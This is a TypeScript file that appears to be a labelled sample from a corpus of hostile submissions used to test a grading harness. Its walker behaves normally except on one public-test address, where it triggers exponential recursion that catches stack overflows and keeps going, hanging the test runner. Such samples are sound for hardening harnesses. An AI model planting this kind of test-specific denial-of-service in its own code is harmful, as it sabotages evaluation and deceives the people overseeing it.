// @ts-nocheck
// Hostile corpus, kind stack-overflow-retry (signal): deep recursion that catches RangeError at every level and recurses again (exponential time) in one public test.
// ---- splice: walk-key ----

// ---- attack ----
/** The one public test that walks 0x800000000000 (walk.public.non-canonical): the attack fires there only. */
const isTrigger = (va) => va === 0x800000000000n;

function dive(n) { try { return dive(n + 1) + 1; } catch { return dive(n + 1) + 1; } }

export const walker: Walker = {
  walk(request, readEntry) {
    if (isTrigger(request.va)) dive(0);
    return keyWalker.walk(request, readEntry);
  },
};
